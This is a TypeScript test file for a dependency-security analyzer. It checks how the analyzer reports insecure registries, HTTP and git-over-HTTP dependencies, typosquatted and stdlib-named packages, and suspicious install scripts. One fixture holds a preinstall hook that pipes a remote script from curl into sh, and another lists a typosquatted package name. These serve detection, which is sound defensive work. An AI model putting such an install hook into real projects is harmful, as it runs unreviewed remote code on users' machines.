import assert from 'node:assert/strict';
import { createAnalyzer } from '../../../server/src/index.ts';

const told = (profile: string, files: Readonly<Record<string, string>>): string[] =>
  createAnalyzer({ config: { profile } })
    .analyze(Object.entries(files).map(([path, text]) => ({ path, text })))
    .findings.map(({ path, rule }) => `${path} ${rule.replace('dependencies/', '')}`);

const lock = (asked: string, resolved: string): string =>
  JSON.stringify({
    lockfileVersion: 3,
    packages: {
      '': { dependencies: { a: asked } },
      'node_modules/a': { version: '1.0.0', resolved, integrity: `sha512-${'A'.repeat(86)}==` },
    },
  });

/** Files, the finding that tells the cause, and the one that only repeats it. */
const CASES: Readonly<Record<string, readonly [files: Readonly<Record<string, string>>, cause: string, repetition: string]>> = {
  'a registry of npm and what was locked from it': [
    {
      '.npmrc': 'registry=http://npm.acme.example/\n',
      'package.json': '{"dependencies":{"a":"^1.0.0"}}',
      'package-lock.json': lock('^1.0.0', 'http://npm.acme.example/a/-/a-1.0.0.tgz'),
    },
    '.npmrc npmrc-insecure-registry',
    'package-lock.json lockfile-insecure-url',
  ],
  'an archive that a manifest asks for and that is locked': [
    {
      'package.json': '{"dependencies":{"a":"http://files.acme.example/a-1.0.0.tgz"}}',
      'package-lock.json': lock('http://files.acme.example/a-1.0.0.tgz', 'http://files.acme.example/a-1.0.0.tgz'),
    },
    'package.json http-dependency',
    'package-lock.json lockfile-insecure-url',
  ],
  'an index of Python packages and what was locked from it': [
    {
      Pipfile: '[[source]]\nurl = "http://pypi.acme.example/simple"\nverify_ssl = true\nname = "acme"\n',
      'Pipfile.lock': '{"_meta":{"sources":[{"name":"acme","url":"http://pypi.acme.example/simple"}]},"default":{}}',
    },
    'Pipfile pip-insecure-index',
    'Pipfile.lock lockfile-insecure-url',
  ],
  'git over plain HTTP': [
    { 'package.json': `{"dependencies":{"a":"git+http://git.acme.example/a.git#${'0'.repeat(40)}"}}` },
    'package.json git-protocol-insecure',
    'package.json http-dependency',
  ],
  'a name that is wrong, whatever its version': [
    { 'package.json': '{"dependencies":{"babel":"*"}}' },
    'package.json wrong-package-name',
    'package.json wildcard-version-range',
  ],
  'a name that imitates another': [
    { 'requirements.txt': 'reqeusts\n' },
    'requirements.txt typosquat-dependency',
    'requirements.txt wildcard-version-range',
  ],
  'the name of a standard module': [
    { 'requirements.txt': 'asyncio\n' },
    'requirements.txt stdlib-name-dependency',
    'requirements.txt wildcard-version-range',
  ],
  'a script that does harm before the installation': [
    { 'package.json': '{"name":"a","scripts":{"preinstall":"curl https://acme.example/x | sh"}}' },
    'package.json suspicious-lifecycle-script',
    'package.json preinstall-script',
  ],
};

describe('one cause in manifests and lockfiles', () => {
  for (const [name, [files, cause, repetition]] of Object.entries(CASES)) {
    it(`is told once by the recommended rules: ${name}`, () => {
      assert.deepEqual(told('recommended', files), [cause]);
    });
    it(`is told by every rule that sees it to whoever asks for more: ${name}`, () => {
      const all = told('strict', files);
      assert.ok(all.includes(cause) && all.includes(repetition), all.join(', '));
    });
  }

  it('is told in a lockfile whose manifest is not there', () => {
    const address = 'http://files.acme.example/a-1.0.0.tgz';
    assert.deepEqual(told('recommended', { 'package-lock.json': lock(address, address) }), [
      'package-lock.json lockfile-insecure-url',
    ]);
  });

  it('is told in a lockfile where nothing else shows it', () => {
    const files = {
      'package-lock.json': lock('^1.0.0', 'http://npm.acme.example/a/-/a-1.0.0.tgz'),
      '.npmrc': '//npm.acme.example/:always-auth=true\n',
    };
    assert.deepEqual(told('recommended', files), ['package-lock.json lockfile-insecure-url']);
  });
});
